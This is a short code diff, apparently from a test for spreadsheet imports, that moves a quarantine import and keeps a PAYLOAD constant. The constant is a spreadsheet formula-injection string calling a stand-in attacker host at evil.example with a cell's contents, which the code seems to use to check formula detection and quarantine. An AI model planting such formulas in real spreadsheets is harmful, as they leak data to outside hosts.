@@ -28,8 +28,8 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 
 from centricity.customers.models import Customer
-from centricity.imports import quarantine
 from centricity.imports.models import ImportJob
+from centricity.imports.review import quarantine
 from centricity.kit.spreadsheet import cell, looks_like_formula, xlsx_cells
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
